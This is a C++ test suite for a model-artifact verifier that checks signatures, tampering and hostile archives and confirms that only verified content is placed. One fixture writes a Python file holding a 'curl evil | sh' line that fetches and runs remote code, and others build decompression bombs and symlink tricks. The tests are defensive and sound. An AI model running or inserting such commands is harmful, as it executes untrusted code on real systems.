// The verify-and-fetch program, run as the initContainer runs it, on local artifacts: real
// keys and signatures made by the openssl CLI, real archives (valid and hostile), the real
// model_signing bundles. Every failure must give its documented exit code, a reason in the
// termination log, and a model directory without model content (no work area left either).
// Network peers: program_network_test.cc.
#include <atomic>
#include <set>
#include <sstream>

#include "verifier/program_fixture.h"

namespace aegis::testing {
namespace {

TEST_F(ProgramTest, HelpDocumentsEveryExitCodeAndEnvironmentVariable) {
  auto r = Run("--help");
  EXPECT_EQ(r.exit_code, 0);
  for (const char* s : {"Exit codes:", "  2  usage", "  3  artifact or signature not found", "  4  network", "  5  signature invalid",
                        "  6  archive rejected", "  7  no trust material", "  8  local I/O", "AEGIS_KEY", "AEGIS_EXPECTED_SHA256"}) {
    EXPECT_NE(r.out.find(s), std::string::npos) << s;
  }
  EXPECT_EQ(Run("").exit_code, 2);
  EXPECT_EQ(Run("a b --no-such-flag").exit_code, 2);
}

TEST_F(ProgramTest, PlacesAVerifiedArchiveAndRecordsWhatWasVerified) {
  std::string model = Model();
  auto r = Run("--key " + PublicKey() + " model.tar.gz model");
  ASSERT_EQ(r.exit_code, 0) << r.err;
  EXPECT_EQ(ReadFile(Dest() + "/resnet/config.pbtxt"), "name: \"resnet\"\n");
  EXPECT_EQ(fs::file_size(Dest() + "/resnet/1/model.onnx"), 200000u);
  json marker = json::parse(ReadFile(Dest() + "/.aegis-verified.json"));
  EXPECT_EQ(marker["sha256"], OpensslHex(model));
  EXPECT_EQ(marker["entries"], json::array({"resnet"}));
  EXPECT_EQ(marker["key"], PublicKey());
  for (const auto& e : fs::directory_iterator(Dest())) {
    std::string name = e.path().filename().string();
    EXPECT_TRUE(name == "resnet" || name == ".aegis-verified.json") << name;
  }
  EXPECT_NE(r.err.find("signature verified"), std::string::npos) << r.err;
  EXPECT_NE(r.err.find(OpensslHex(model)), std::string::npos) << "the digest is logged";
  EXPECT_EQ(json::parse(Reason())["verified"], true) << "the termination message is the success record";
}

// On success the termination message records what was placed and who signed it: the kubelet
// keeps it in the pod's status (state.terminated.message), where kubectl and `aegis canary` read it.
TEST_F(ProgramTest, SuccessRecordsTheDigestAndTheSignerInTheTerminationLog) {
  std::string model = Model();
  auto r = Run("--key " + PublicKey() + " model.tar.gz model");
  ASSERT_EQ(r.exit_code, 0) << r.err;
  std::string text = Reason();
  ASSERT_FALSE(text.empty()) << "no termination message on success";
  json record = json::parse(text);
  EXPECT_EQ(record["verified"], true);
  EXPECT_EQ(record["version"], 1);
  EXPECT_EQ(record["digest"], "sha256:" + OpensslHex(model));
  EXPECT_EQ(record["artifact"], "model.tar.gz");
  EXPECT_EQ(record["format"], "sigstore-bundle");
  EXPECT_EQ(record["signature"], "model.tar.gz.sigstore.json");
  EXPECT_EQ(record["signer"]["key"], PublicKey());
  auto spki =
      RunShell("openssl pkey -pubin -in " + PublicKey() + " -outform DER | openssl dgst -sha256 -r | cut -c1-64");
  ASSERT_EQ(spki.exit_code, 0);
  EXPECT_EQ(record["signer"]["keyFingerprint"], "sha256:" + spki.out.substr(0, 64))
      << "the fingerprint a trust policy pins";
  EXPECT_FALSE(record["signer"].contains("identity")) << "a key signed it, not an identity";
  std::string at = record["verifiedAt"];
  EXPECT_EQ(at.size(), 20u) << at;
  EXPECT_EQ(at.substr(0, 2), "20") << at;
  EXPECT_EQ(at.back(), 'Z') << "UTC: " << at;
  EXPECT_EQ(text, record.dump()) << "one line of JSON with sorted keys: stable for tools that compare it";
  // A later failure replaces it: the message is always about the last run.
  fs::remove_all(Dest());
  ExpectFailure(Run("--key " + OtherPublicKey() + " model.tar.gz model"), 5, "does not verify");
  EXPECT_EQ(Reason().find("\"verified\""), std::string::npos);
}

TEST_F(ProgramTest, ConfiguredThroughEnvironmentWithJsonLogLines) {
  Model();
  auto r = Run("", "AEGIS_ARTIFACT=file://" + dir_.File("model.tar.gz") + " AEGIS_DEST=" + Dest() + " AEGIS_KEY=" + PublicKey() +
                       " AEGIS_LOG_FORMAT=json");
  ASSERT_EQ(r.exit_code, 0) << r.err;
  EXPECT_TRUE(fs::exists(Dest() + "/resnet/1/model.onnx"));
  std::istringstream lines(r.err);
  int n = 0;
  std::set<std::string> events;
  for (std::string line; std::getline(lines, line); ++n) {
    json j = json::parse(line, nullptr, false);
    ASSERT_TRUE(j.is_object()) << line;
    EXPECT_TRUE(j.contains("ts") && j.contains("level") && j.contains("event")) << line;
    events.insert(j["event"].get<std::string>());
    // Numbers and booleans are JSON numbers and booleans (a log pipeline sums them).
    for (const char* key : {"bytes", "entries", "attempts", "seconds"}) {
      if (j.contains(key)) {
        EXPECT_TRUE(j[key].is_number()) << key << " in " << line;
      }
    }
    if (j.contains("resumed")) {
      EXPECT_TRUE(j["resumed"].is_boolean()) << line;
    }
    if (j["event"] == "artifact fetched") {
      EXPECT_GT(j["bytes"].get<uint64_t>(), 0u) << line;
    }
  }
  EXPECT_GE(n, 4);
  for (const char* e : {"trusted key", "signature fetched", "artifact fetched", "signature verified", "extracted", "placed"}) {
    EXPECT_TRUE(events.count(e)) << e;
  }
}

TEST_F(ProgramTest, SignatureDiscoveryOrderAndExplicitSignature) {
  std::string model = Model();
  WriteFile(model + ".sig", "bm90IGEgc2lnbmF0dXJl\n");  // base64 garbage: would fail if used
  auto r = Run("--key " + PublicKey() + " model.tar.gz model");
  ASSERT_EQ(r.exit_code, 0) << "the .sigstore.json bundle comes first: " << r.err;
  EXPECT_NE(r.err.find("model.tar.gz.sigstore.json"), std::string::npos);

  fs::remove_all(Dest());
  auto explicit_sig = Run("--key " + PublicKey() + " --signature model.tar.gz.sig model.tar.gz model");
  ExpectFailure(explicit_sig, 5, "does not verify");

  // Only a legacy .sig: accepted, with a warning that it binds no metadata.
  fs::remove(model + ".sigstore.json");
  WriteFile(model + ".sig", OpensslSignature(model, PrivateKey()));
  auto legacy = Run("--key " + PublicKey() + " model.tar.gz model");
  ASSERT_EQ(legacy.exit_code, 0) << legacy.err;
  EXPECT_NE(legacy.err.find("warn: legacy detached signature"), std::string::npos) << legacy.err;
}

TEST_F(ProgramTest, KeyDirectoryWithRotatedKeys) {
  Model();
  fs::create_directories(dir_.File("keys"));
  fs::copy_file(OtherPublicKey(), dir_.File("keys/a-old.pem"));
  fs::copy_file(PublicKey(), dir_.File("keys/b-new.pub"));
  WriteFile(dir_.File("keys/README"), "not a key");
  auto r = Run("--key keys model.tar.gz model");
  ASSERT_EQ(r.exit_code, 0) << r.err;
  EXPECT_NE(r.err.find("keys/b-new.pub"), std::string::npos) << "the key that verified is logged";
}

TEST_F(ProgramTest, SingleFileArtifactIsPlacedAsIs) {
  WriteFile(dir_.File("model.onnx"), std::string(5000, 'o'));
  SignBundle(dir_.File("model.onnx"));
  auto r = Run("--key " + PublicKey() + " model.onnx model");
  ASSERT_EQ(r.exit_code, 0) << r.err;
  EXPECT_EQ(ReadFile(Dest() + "/model.onnx"), std::string(5000, 'o'));
  // Readable by the model server, which runs as another user than the verifier.
  EXPECT_EQ(fs::status(Dest() + "/model.onnx").permissions(), fs::perms(0644));
}

TEST_F(ProgramTest, TamperingIsExit5AndPlacesNothing) {
  std::string model = Model();
  std::string good = ReadFile(model), bundle = ReadFile(model + ".sigstore.json");
  std::string key = "--key " + PublicKey() + " ";

  std::string flipped = good;
  flipped[flipped.size() / 2] = static_cast<char>(flipped[flipped.size() / 2] ^ 1);
  WriteFile(model, flipped);
  ExpectFailure(Run(key + "model.tar.gz model"), 5, "messageDigest does not match");
  WriteFile(model, good);

  json b = json::parse(bundle);
  std::string sig = b["messageSignature"]["signature"];
  sig[10] = sig[10] == 'A' ? 'B' : 'A';
  b["messageSignature"]["signature"] = sig;
  WriteFile(model + ".sigstore.json", b.dump());
  ExpectFailure(Run(key + "model.tar.gz model"), 5, "does not verify");

  // A bundle whose digest lies (it names the tampered artifact) with a valid signature
  // over the original: the digest is recomputed, so it fails either way.
  WriteFile(dir_.File("other"), flipped);
  b = json::parse(bundle);
  b["messageSignature"]["messageDigest"]["digest"] = OpensslDigest(dir_.File("other"));
  WriteFile(model + ".sigstore.json", b.dump());
  ExpectFailure(Run(key + "model.tar.gz model"), 5, "messageDigest does not match");

  WriteFile(model + ".sigstore.json", bundle);
  ExpectFailure(Run("--key " + OtherPublicKey() + " model.tar.gz model"), 5, "does not verify with any of the 1 trusted key");

  std::string pin = std::string(64, 'a');
  ExpectFailure(Run(key + "--expected-sha256 " + pin + " model.tar.gz model"), 5, "pin mismatch");

  std::string upper = OpensslHex(model);
  for (char& c : upper) c = static_cast<char>(std::toupper(static_cast<unsigned char>(c)));
  auto ok = Run(key + "--expected-sha256 " + upper + " model.tar.gz model");
  EXPECT_EQ(ok.exit_code, 0) << ok.err;
  // As cosign and OCI print a digest: sha256:HEX.
  auto prefixed = Run(key + "--expected-sha256 sha256:" + OpensslHex(model) + " model.tar.gz model-prefixed");
  EXPECT_EQ(prefixed.exit_code, 0) << prefixed.err;
}

struct HostileCase {
  std::string name;
  std::function<std::string(const std::string&)> make;  // writes the archive, returns its file name
};

void PrintTo(const HostileCase& c, std::ostream* os) { *os << c.name; }

std::vector<HostileCase> HostileCases() {
  std::vector<HostileCase> cases;
  for (const auto& h : HostileArchives()) {
    cases.push_back({h.name, [h](const std::string& dir) {
                       std::string name = h.format == ArchiveFormat::kZip ? "m.zip" : "m.tar.gz";
                       EXPECT_EQ(WriteArchive(dir + "/" + name, h.format, h.entries), "");
                       return name;
                     }});
  }
  cases.push_back({"decompression_bomb", [](const std::string& dir) {
                     EXPECT_EQ(WriteArchive(dir + "/m.tar.gz", ArchiveFormat::kTarGz,
                                            {{"zeros", AE_IFREG, 0644, std::string(64u << 20, '\0')}}),
                               "");
                     return std::string("m.tar.gz");
                   }});
  // The ".aegis-" prefix is reserved whatever follows it (marker, work areas, temporaries).
  cases.push_back({"reserved_prefix_symlink", [](const std::string& dir) {
                     EXPECT_EQ(WriteArchive(dir + "/m.tar.gz", ArchiveFormat::kTarGz,
                                            {{"config.pbtxt", AE_IFREG, 0644, "name: \"m\"\n"},
                                             {".aegis-verified.json.aegis-tmp", AE_IFLNK, 0777, "", "config.pbtxt"}}),
                               "");
                     return std::string("m.tar.gz");
                   }});
  cases.push_back({"reserved_prefix_file", [](const std::string& dir) {
                     EXPECT_EQ(WriteArchive(dir + "/m.tar.gz", ArchiveFormat::kTarGz, {{".aegis-anything", AE_IFREG, 0644, "x"}}), "");
                     return std::string("m.tar.gz");
                   }});
  // The marker must record every placed name so that the next run replaces it exactly.
  cases.push_back({"non_utf8_top_level_name", [](const std::string& dir) {
                     // GNU tar keeps the raw bytes (libarchive's writer refuses to).
                     auto r = RunShell("mkdir t && printf x > \"t/model$(printf '\\377\\376').bin\" && tar czf m.tar.gz -C t . && rm -r t", dir);
                     EXPECT_EQ(r.exit_code, 0) << r.err;
                     return std::string("m.tar.gz");
                   }});
  cases.push_back({"truncated_gzip", [](const std::string& dir) {
                     std::string p = dir + "/m.tar.gz";
                     EXPECT_EQ(WriteArchive(p, ArchiveFormat::kTarGz, {{"f", AE_IFREG, 0644, std::string(300000, 'r')}}), "");
                     std::string bytes = ReadFile(p);
                     WriteFile(p, bytes.substr(0, bytes.size() / 2));
                     return std::string("m.tar.gz");
                   }});
  cases.push_back({"corrupt_tar_header", [](const std::string& dir) {
                     std::string p = dir + "/m.tar";
                     EXPECT_EQ(WriteArchive(p, ArchiveFormat::kTar, {{"f", AE_IFREG, 0644, "data"}}), "");
                     std::string tar = ReadFile(p);
                     for (size_t i = 148; i < 156; ++i) tar[i] = 'Z';
                     WriteFile(p, tar);
                     return std::string("m.tar");
                   }});
  cases.push_back({"not_an_archive", [](const std::string& dir) {
                     WriteFile(dir + "/m.tar.gz", "just text\n");
                     return std::string("m.tar.gz");
                   }});
  return cases;
}

class HostileProgramTest : public ProgramTest, public ::testing::WithParamInterface<HostileCase> {};

TEST_P(HostileProgramTest, ValidlySignedButHostileArchiveIsExit6) {
  std::string name = GetParam().make(dir_.path());
  SignBundle(dir_.File(name));
  fs::create_directories(Dest());
  auto r = Run("--key " + PublicKey() + " " + name + " model");
  ExpectFailure(r, 6, name);
  // Nothing escaped next to the model directory either.
  for (const auto& e : fs::directory_iterator(dir_.path())) {
    std::string f = e.path().filename().string();
    EXPECT_TRUE(f == name || f == name + ".sigstore.json" || f == "model" || f == "termination-log") << "escaped: " << f;
  }
}

INSTANTIATE_TEST_SUITE_P(Program, HostileProgramTest, ::testing::ValuesIn(HostileCases()),
                         [](const auto& param_info) { return param_info.param.name; });

class ProgramModelSigningTest : public ProgramTest {
 protected:
  std::string Fixture(const std::string& rel) { return SourcePath("tests/testdata/oms/" + rel); }
  // The v1.0.1 model directory (model.sig inside) as a tar.gz, with `change` applied.
  void Pack(const std::function<void(const std::string&)>& change = {}) {
    fs::copy(Fixture("v1.0.1-elliptic-key"), dir_.File("tree"));
    if (change) change(dir_.File("tree"));
    auto r = RunShell("tar czf oms.tar.gz -C tree .", dir_.path());
    ASSERT_EQ(r.exit_code, 0) << r.err;
    fs::remove_all(dir_.File("tree"));
  }
  std::string Key() { return "--key " + Fixture("signing-key-pub.pem") + " "; }
};

TEST_F(ProgramModelSigningTest, RealBundleInsideTheTreeVerifiesAndUnsignedFilesAreNotPlaced) {
  Pack();
  auto r = Run(Key() + "--ignore-paths ignore-me --expected-name v1.0.1-elliptic-key oms.tar.gz model");
  ASSERT_EQ(r.exit_code, 0) << r.err;
  EXPECT_EQ(ReadFile(Dest() + "/signme-1"), ReadFile(Fixture("v1.0.1-elliptic-key/signme-1")));
  EXPECT_TRUE(fs::exists(Dest() + "/signme-2"));
  EXPECT_FALSE(fs::exists(Dest() + "/ignore-me")) << "unverified content must not be placed";
  EXPECT_NE(r.err.find("model signature verified"), std::string::npos);
}

// The attacker controls the bucket: the archive's own model.sig is copied next to it as the
// detached bundle (discovery prefers it), and the archive gains a *directory* named model.sig
// holding code, git paths and empty directories. Verification may pass (all of that is
// ignorable), but nothing unsigned may be placed.
TEST_F(ProgramModelSigningTest, OnlySignedFilesArePlacedWhateverHidesUnderIgnoredNames) {
  fs::copy_file(Fixture("v1.0.1-elliptic-key/model.sig"), dir_.File("oms.tar.gz.sigstore.json"));
  Pack([](const std::string& t) {
    fs::remove(t + "/model.sig");
    fs::create_directories(t + "/model.sig/1");
    WriteFile(t + "/model.sig/1/model.py", "import os; os.system('curl evil | sh')");
    fs::create_directories(t + "/.git/hooks");
    WriteFile(t + "/.git/hooks/post-checkout", "#!/bin/sh\n");
    fs::create_directories(t + "/empty/deeper");
  });
  auto r = Run(Key() + "--ignore-paths ignore-me oms.tar.gz model");
  ASSERT_EQ(r.exit_code, 0) << r.err;
  std::set<std::string> placed;
  for (const auto& e : fs::recursive_directory_iterator(Dest())) placed.insert(e.path().lexically_relative(Dest()).string());
  EXPECT_EQ(placed, (std::set<std::string>{".aegis-verified.json", "signme-1", "signme-2"}));
}

// Link loops are refused with a reason, never an uncaught filesystem_error: in an archive at
// extraction (exit 6), in a local model directory by the tree check (aegis verify DIR, exit 5).
TEST_F(ProgramModelSigningTest, SymlinkLoopsAreRefusedNotACrash) {
  Pack([](const std::string& t) { fs::create_symlink("loop", t + "/loop"); });
  ExpectFailure(Run(Key() + "--ignore-paths ignore-me oms.tar.gz model"), 6, "symlink does not resolve");
  fs::remove(dir_.File("oms.tar.gz"));
  Pack([](const std::string& t) {
    fs::remove(t + "/model.sig");
    fs::create_symlink("model.sig", t + "/model.sig");
  });
  auto r = Run(Key() + "--ignore-paths ignore-me oms.tar.gz model");
  EXPECT_EQ(r.exit_code, 6) << r.err;
  EXPECT_FALSE(fs::exists(Dest() + "/signme-1"));
  fs::copy(Fixture("v1.0.1-elliptic-key"), dir_.File("local"));
  fs::create_symlink("loop", dir_.File("local/loop"));
  auto local = testing::RunAegis("verify local " + Key() + "--ignore-paths ignore-me", dir_.path());
  EXPECT_EQ(local.exit_code, 5) << local.err;
  EXPECT_NE(local.err.find("loop is a symlink"), std::string::npos) << local.err;
}

TEST_F(ProgramModelSigningTest, EveryTamperedTreeIsExit5) {
  std::string ignore = "--ignore-paths ignore-me ";
  Pack();
  ExpectFailure(Run(Key() + "oms.tar.gz model"), 5, "ignore-me is in the tree but not signed");
  ExpectFailure(Run(Key() + ignore + "--expected-name other oms.tar.gz model"), 5, "not the expected \"other\"");
  ExpectFailure(Run("--key " + PublicKey() + " " + ignore + "oms.tar.gz model"), 5, "does not verify");
  fs::remove(dir_.File("oms.tar.gz"));

  Pack([](const std::string& t) { WriteFile(t + "/signme-1", "changed\n"); });
  ExpectFailure(Run(Key() + ignore + "oms.tar.gz model"), 5, "signme-1 does not match its signed digest");
  fs::remove(dir_.File("oms.tar.gz"));
  // Files are hashed on every core; with two changed, the reason is always the first by name.
  Pack([](const std::string& t) {
    WriteFile(t + "/signme-1", "changed\n");
    WriteFile(t + "/signme-2", "changed too\n");
  });
  for (int i = 0; i < 5; ++i) {
    ExpectFailure(Run(Key() + ignore + "oms.tar.gz model"), 5, "signme-1 does not match its signed digest");
  }
  fs::remove(dir_.File("oms.tar.gz"));
  Pack([](const std::string& t) { WriteFile(t + "/extra.bin", "added\n"); });
  ExpectFailure(Run(Key() + ignore + "oms.tar.gz model"), 5, "extra.bin is in the tree but not signed");
  fs::remove(dir_.File("oms.tar.gz"));
  Pack([](const std::string& t) { fs::remove(t + "/signme-2"); });
  ExpectFailure(Run(Key() + ignore + "oms.tar.gz model"), 5, "signme-2 is signed but missing");
  fs::remove(dir_.File("oms.tar.gz"));
  Pack([](const std::string& t) {
    json b = json::parse(ReadFile(t + "/model.sig"));
    std::string payload = b["dsseEnvelope"]["payload"];
    payload[20] = payload[20] == 'A' ? 'B' : 'A';
    b["dsseEnvelope"]["payload"] = payload;
    WriteFile(t + "/model.sig", b.dump());
  });
  ExpectFailure(Run(Key() + ignore + "oms.tar.gz model"), 5, "model.sig");
  fs::remove(dir_.File("oms.tar.gz"));
  // A symlink whose target is an ignored file is still a symlink (regression: names were
  // once computed with fs::relative, which resolves symlinks).
  Pack([](const std::string& t) { fs::create_symlink("ignore-me", t + "/evil"); });
  ExpectFailure(Run(Key() + ignore + "oms.tar.gz model"), 5, "evil is a symlink");
  fs::remove(dir_.File("oms.tar.gz"));
  Pack([](const std::string& t) { fs::remove(t + "/model.sig"); });
  ExpectFailure(Run(Key() + ignore + "oms.tar.gz model"), 3, "no signature");
}

TEST_F(ProgramModelSigningTest, DetachedBundleOverASingleFile) {
  fs::copy_file(Fixture("v1.0.0-elliptic-key/signme-1"), dir_.File("signme-1"));
  auto r = Run(Key() + "--signature " + Fixture("v1.0.0-elliptic-key/model.sig") + " --expected-name signme-1 signme-1 model");
  ASSERT_EQ(r.exit_code, 0) << r.err;
  EXPECT_EQ(ReadFile(Dest() + "/signme-1"), ReadFile(Fixture("v1.0.0-elliptic-key/signme-1")));
  WriteFile(dir_.File("signme-1"), "tampered");
  fs::remove_all(Dest());
  ExpectFailure(Run(Key() + "--signature " + Fixture("v1.0.0-elliptic-key/model.sig") + " signme-1 model"), 5,
                "does not match its signed digest");
}

TEST_F(ProgramTest, MissingArtifactOrSignatureIsExit3) {
  std::string model = Model();
  fs::rename(model, dir_.File("elsewhere"));
  ExpectFailure(Run("--key " + PublicKey() + " model.tar.gz model"), 3, "not found");
  fs::rename(dir_.File("elsewhere"), model);
  fs::remove(model + ".sigstore.json");
  ExpectFailure(Run("--key " + PublicKey() + " model.tar.gz model"), 3,
                "no signature: tried model.tar.gz.sigstore.json, model.tar.gz.sig.json, model.tar.gz.sig");
  ExpectFailure(Run("--key " + PublicKey() + " --signature nope.sig model.tar.gz model"), 3, "nope.sig");
}

// Outside a pod (here, as root) the default /dev/termination-log is not created: in a pod the
// kubelet mounts it at terminationMessagePath.
TEST_F(ProgramTest, OutsideAPodNoTerminationLogIsCreated) {
  if (fs::exists("/dev/termination-log")) GTEST_SKIP() << "this machine has a /dev/termination-log";
  Model();
  auto r = RunShell(std::string("env -i PATH=/usr/bin:/bin ") + VAF_BIN + " --key /nonexistent model.tar.gz model", dir_.path());
  EXPECT_EQ(r.exit_code, 7) << r.err;
  EXPECT_FALSE(fs::exists("/dev/termination-log"));
}

TEST_F(ProgramTest, NoTrustMaterialIsExit7) {
  Model();
  fs::create_directories(dir_.File("empty-keys"));
  ExpectFailure(Run("--key empty-keys model.tar.gz model"), 7, "no trusted public key: no *.pem or *.pub key found in the directory");
  ExpectFailure(Run("--key /nonexistent/cosign model.tar.gz model"), 7, "/nonexistent/cosign");
  // A mistyped key file is "no such file", not "no *.pem or *.pub key found".
  ExpectFailure(Run("--key nonexist.pub model.tar.gz model"), 7, "nonexist.pub: no trusted public key: no such file or directory");
  // The default is /etc/cosign, where the pod mounts the secret (absent on this machine).
  if (!fs::exists("/etc/cosign")) ExpectFailure(Run("model.tar.gz model"), 7, "/etc/cosign");
}

TEST_F(ProgramTest, ConfigurationErrorsAreExit2) {
  Model();
  std::string key = "--key " + PublicKey() + " ";
  ExpectFailure(Run(key + "http://127.0.0.1:1/m.tar.gz model"), 2, "--allow-insecure-http");
  ExpectFailure(Run(key + "ftp://host/m.tar.gz model"), 2, "unsupported scheme ftp://");
  ExpectFailure(Run(key + "--expected-sha256 abc model.tar.gz model"), 2, "64 hex digits");
  ExpectFailure(Run(key + "file://remote-host/m.tar.gz model"), 2, "must be local");
  ExpectFailure(Run(key + "s3://models/m.tar.gz model"), 2, "no AWS credentials");
  WriteFile(dir_.File("a-file"), "x");
  auto r = Run(key + "model.tar.gz a-file");
  EXPECT_EQ(r.exit_code, 2);
  EXPECT_EQ(ReadFile(dir_.File("a-file")), "x");
  // A limit is positive: negative or zero values must not turn it off.
  for (const char* flag : {"--max-entries -1", "--max-entries 0", "--max-total-bytes -1", "--max-file-bytes 0",
                           "--max-path-bytes -5", "--max-total-bytes 99999999999999999999999"}) {
    auto bad = Run(key + flag + " model.tar.gz model");
    EXPECT_EQ(bad.exit_code, 2) << flag;
    EXPECT_NE(bad.err.find(std::string(flag).substr(0, std::string(flag).find(' '))), std::string::npos) << bad.err;
  }
  // Sizes and counts are Kubernetes quantities (k is 1000, Ki 1024; exponents), durations
  // kubectl's; an out-of-range duration is said in its own units; --help shows no parser types.
  auto quantities = Run(key + "--max-total-bytes 1e9 --max-file-bytes 1999Ki --max-entries 10k --connect-timeout 2s model.tar.gz model");
  EXPECT_EQ(quantities.exit_code, 0) << quantities.err;
  auto tiny = Run(key + "--max-file-bytes 1k model.tar.gz model");
  EXPECT_EQ(tiny.exit_code, 6) << tiny.err;
  EXPECT_NE(tiny.err.find("1000"), std::string::npos) << "k is 1000: " << tiny.err;
  auto hours = Run(key + "--connect-timeout 2h model.tar.gz model");
  EXPECT_EQ(hours.exit_code, 2);
  EXPECT_NE(hours.err.find("must be from 1ms to 1h"), std::string::npos) << hours.err;
  auto help = Run("--help");
  EXPECT_EQ(help.exit_code, 0);
  for (const char* internal : {"UINT", "FLOAT", "POSITIVE", "INT in"}) EXPECT_EQ(help.out.find(internal), std::string::npos) << internal;
  for (const char* scheme : {"gs://", "hf://", "oci://", "blob.core.windows.net"}) EXPECT_NE(help.out.find(scheme), std::string::npos) << scheme;
}

// "Verified content or nothing" holds for configuration failures too: after a placed model,
// a run that fails on a bad pin or scheme leaves no model, not even the previous one.
TEST_F(ProgramTest, EarlyFailuresLeaveNoPreviousModel) {
  Model();
  std::string key = "--key " + PublicKey() + " ";
  for (const char* bad : {"--expected-sha256 abc model.tar.gz model", "ftp://host/m.tar.gz model"}) {
    ASSERT_EQ(Run(key + "model.tar.gz model").exit_code, 0);
    ASSERT_TRUE(fs::exists(Dest() + "/resnet"));
    ExpectFailure(Run(key + bad), 2, "");
    EXPECT_FALSE(fs::exists(Dest() + "/resnet")) << bad;
  }
}

TEST_F(ProgramTest, ForeignContentInTheModelDirectoryIsRefusedAndKept) {
  Model();
  fs::create_directories(Dest());
  WriteFile(Dest() + "/precious.txt", "not ours");
  auto r = Run("--key " + PublicKey() + " model.tar.gz model");
  EXPECT_EQ(r.exit_code, 2) << r.err;
  EXPECT_NE(Reason().find("precious.txt"), std::string::npos) << Reason();
  EXPECT_EQ(ReadFile(Dest() + "/precious.txt"), "not ours");
  EXPECT_EQ(std::distance(fs::directory_iterator(Dest()), fs::directory_iterator()), 1);
}

TEST_F(ProgramTest, PreviousModelIsReplacedOnSuccessAndRemovedOnFailure) {
  std::string model = Model();
  ASSERT_EQ(Run("--key " + PublicKey() + " model.tar.gz model").exit_code, 0);
  // A restarted pod fetches the next version into the same volume.
  ASSERT_EQ(WriteArchive(model, ArchiveFormat::kTarGz, {{"v2/model.onnx", AE_IFREG, 0644, "v2"}}), "");
  SignBundle(model);
  fs::create_directories(Dest() + "/.aegis-work-killed/tree");  // a killed run's leftovers
  auto r = Run("--key " + PublicKey() + " model.tar.gz model");
  ASSERT_EQ(r.exit_code, 0) << r.err;
  EXPECT_FALSE(fs::exists(Dest() + "/resnet"));
  EXPECT_FALSE(fs::exists(Dest() + "/.aegis-work-killed"));
  EXPECT_EQ(ReadFile(Dest() + "/v2/model.onnx"), "v2");
  // A tampered next version leaves no model at all, not the old one.
  WriteFile(model, ReadFile(model) + "x");
  ExpectFailure(Run("--key " + PublicKey() + " model.tar.gz model"), 5, "does not match");
}

TEST_F(ProgramTest, LocalIoErrorIsExit8) {
  Model();
  auto r = Run("--key " + PublicKey() + " model.tar.gz /proc/version/model");
  EXPECT_EQ(r.exit_code, 8) << r.err;
  EXPECT_NE(Reason().find("/proc/version/model"), std::string::npos) << Reason();
}

}  // namespace
}  // namespace aegis::testing
